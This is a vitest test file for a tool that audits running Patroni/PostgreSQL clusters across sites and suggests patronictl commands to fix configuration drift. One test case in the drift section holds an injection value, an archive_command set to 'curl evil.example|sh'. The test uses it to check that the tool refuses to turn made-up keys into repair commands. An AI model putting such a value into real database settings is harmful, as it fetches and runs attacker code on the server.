import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { LIVE_RULES } from '../../src/rules/generated/live.ts';
import { fakeEstate } from './estate.ts';
import { FAULTS, NO_FAULTS } from './faults.ts';
import { findingsOf, idsOf } from './judged.ts';
import { SAMPLE } from './sample.ts';

/** The sample with the versions of an old distribution. */
const OLD = SAMPLE.replace('patroni: "4.1"', 'patroni: "3.0"').replace('postgresql: 18', 'postgresql: 15');

describe('an estate that is well', () => {
  it('has no finding', async () => {
    expect(await findingsOf(await fakeEstate())).toEqual([]);
  });

  it('has none where Patroni says as little as 3.0 did', async () => {
    expect(await findingsOf(await fakeEstate(OLD, { isOld: true }), OLD)).toEqual([]);
  });

  it('is told of a member with another name, though Patroni 3.0 does not say its own', async () => {
    const estate = await fakeEstate(OLD, { isOld: true });
    const site = estate.sites.get('busan');
    if (site)
      site.cluster = {
        members: ['pg-busan-9', 'pg-busan-2', 'pg-busan-3'].map((name, at) => ({
          name,
          host: `10.2.0.1${at}`,
          port: 5432,
        })),
      };
    expect(idsOf(await findingsOf(estate, OLD))).toEqual([
      'live/member-missing',
      'live/member-unknown',
      'live/stranger',
    ]);
  });

  it('has none where one site alone is asked', async () => {
    expect(await findingsOf(await fakeEstate(), SAMPLE, 'busan')).toEqual([]);
    expect(await findingsOf(await fakeEstate(), SAMPLE, 'seoul')).toEqual([]);
  });
});

describe('what looks like a fault', () => {
  it.each(NO_FAULTS.map((one) => [one.name, one] as const))(
    'is none: %s',
    async (_, { make, topology = (text: string) => text }) => {
      const text = topology(SAMPLE);
      const estate = await fakeEstate(text);
      make(estate);
      expect(await findingsOf(estate, text)).toEqual([]);
    },
  );

  it('is none where the site that somebody follows was not asked', async () => {
    const estate = await fakeEstate();
    const leader = estate.members.get('pg-seoul-3');
    if (leader) leader.status.replication = [];
    expect(await findingsOf(estate, SAMPLE, 'busan')).toEqual([]);
  });

  it('is none where two sites use the same addresses, and the local one leads to another site', async () => {
    const nat = readFileSync('fixtures/nat/topology.yaml', 'utf8');
    const estate = await fakeEstate(nat);
    // Who sits at seoul reaches seoul's machines by the private addresses.
    expect(await findingsOf(estate, nat)).toEqual([]);
    const busan = estate.members.get('pg-busan-1');
    if (busan) busan.reply = { kind: 'silence', why: 'refused', detail: '' };
    const [found, ...others] = await findingsOf(estate, nat);
    expect(others).toEqual([]);
    expect(found?.message).toBe(
      'pg-busan-1 does not answer at https://198.51.100.10:8008/patroni: the connection is refused',
    );
  });

  it('is told by the answer that tells most', async () => {
    const text = SAMPLE.replace('address: 10.2.0.10,', 'address: 10.2.0.10, wan_address: 10.7.2.10,');
    const estate = await fakeEstate(text);
    const { get } = estate.asker;
    const asker = {
      ...estate.asker,
      get: async (url: string, deadline: number, most: number) =>
        url.includes('10.2.0.10')
          ? ({ kind: 'silence', why: 'timeout', detail: '' } as const)
          : url.includes('10.7.2.10')
            ? ({ kind: 'silence', why: 'certificate', detail: 'certificate has expired' } as const)
            : get(url, deadline, most),
    };
    const found = await findingsOf({ asker }, text);
    expect(found.map(({ message }) => message).join()).toContain('its certificate is not trusted');
  });

  it('is told where one site alone is asked, and that has no primary', async () => {
    const estate = await fakeEstate();
    for (const [name, one] of estate.members)
      if (name.startsWith('pg-seoul')) one.status = { ...one.status, role: 'replica' };
    expect(idsOf(await findingsOf(estate, SAMPLE, 'seoul'))).toEqual(['live/no-leader']);
  });
});

describe('the command that mends a drift', () => {
  it.each([
    'postgresql.parameters.archive_command=curl evil.example|sh #',
    'postgresql.parameters.wal_level',
    'ttl=1',
    'a b',
  ])('is not given for a key that somebody made up: %s', async (key) => {
    const estate = await fakeEstate();
    const site = estate.sites.get('seoul');
    if (site?.config) site.config[key] = 'x';
    const [found] = await findingsOf(estate);
    expect(found?.rule).toBe('live/drift');
    expect(found?.help).not.toContain('patronictl');
  });

  it('is given for a parameter of an extension', async () => {
    const estate = await fakeEstate();
    const postgresql = estate.sites.get('seoul')?.config?.postgresql as {
      parameters: Record<string, unknown>;
    };
    postgresql.parameters['pg_stat_statements.max'] = 5000;
    const [found] = await findingsOf(estate);
    expect(found?.help).toContain('--set postgresql.parameters.pg_stat_statements.max=null');
  });

  it('sets back all that went', async () => {
    const estate = await fakeEstate();
    const site = estate.sites.get('seoul');
    if (site) delete site.config?.slots;
    const [found] = await findingsOf(estate);
    expect(found?.help).toContain(
      `patronictl -c /etc/patroni/patroni.yml edit-config pg-seoul-cluster --force --set 'slots.standby_cluster_busan={`,
    );
  });
});

describe('a fault of an estate that runs', () => {
  it.each(FAULTS.map((fault) => [fault.name, fault] as const))(
    'is named: %s',
    async (_, { make, ids, says, topology = (text: string) => text }) => {
      const text = topology(SAMPLE);
      const estate = await fakeEstate(text);
      make(estate);
      const found = await findingsOf(estate, text);
      expect(idsOf(found)).toEqual(ids);
      expect(found.map(({ message }) => message).join('\n')).toContain(says);
    },
  );

  it('is made for every rule', () => {
    // A server without TLS is asked over sockets: test/live/network.test.ts.
    const made = new Set(['live/no-tls', ...FAULTS.flatMap(({ ids }) => ids)]);
    expect(LIVE_RULES.map(({ id }) => id).filter((id) => !made.has(id))).toEqual([]);
  });
});
